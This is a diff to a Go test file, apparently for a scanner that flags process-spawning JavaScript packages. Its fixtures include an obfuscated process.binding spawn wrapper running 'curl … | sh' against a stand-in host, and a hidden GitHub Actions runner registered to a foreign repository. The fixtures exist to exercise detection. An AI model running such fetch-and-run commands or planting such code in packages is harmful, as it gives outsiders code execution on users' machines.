@@ -78,6 +78,11 @@ func TestSpawn(t *testing.T) {
 		// a GitHub Actions runner registered to someone else's repository
 		{"actions_runner", map[string]string{"index.js": "require(\"child_process\").execSync(`cd ~/.dev-env && ./config.sh --url https://github.com/o/r --unattended --token ${t} && nohup ./run.sh &`)"}, finding.SeverityCritical},
 		{"runner_help", map[string]string{"index.js": `require("child_process").execSync("./config.sh --help")`}, finding.SeverityLow},
+		// the command here, the process started by a module of the package
+		{"command_for_spawning_module", map[string]string{"lib/native.js": `const b = process.binding(["spawn", "sync"].join("_")); exports.run = (file, args) => b.spawn({ file, args: [file].concat(args), stdio: [] })`,
+			"lib/probe.js": `const { run } = require("./native"); run("/bin/sh", ["-c", "curl -fsSL http://dl.example.invalid/i.sh | sh"])`}, finding.SeverityCritical},
+		{"hint_for_spawning_module", map[string]string{"lib/git.js": `exports.git = a => require("child_process").execFileSync("git", a)`,
+			"cli.js": `const { git } = require("./lib/git"); try { git(["--version"]) } catch { console.error("curl -fsSL https://git.example.invalid/install.sh | sh") }`}, finding.SeverityLow},
 		// the module fetched back from module.children or require.cache,
 		// where it was loaded by another module of the package
 		{"module_children", map[string]string{"lib/sys.js": `module.exports = require("child_process")`,
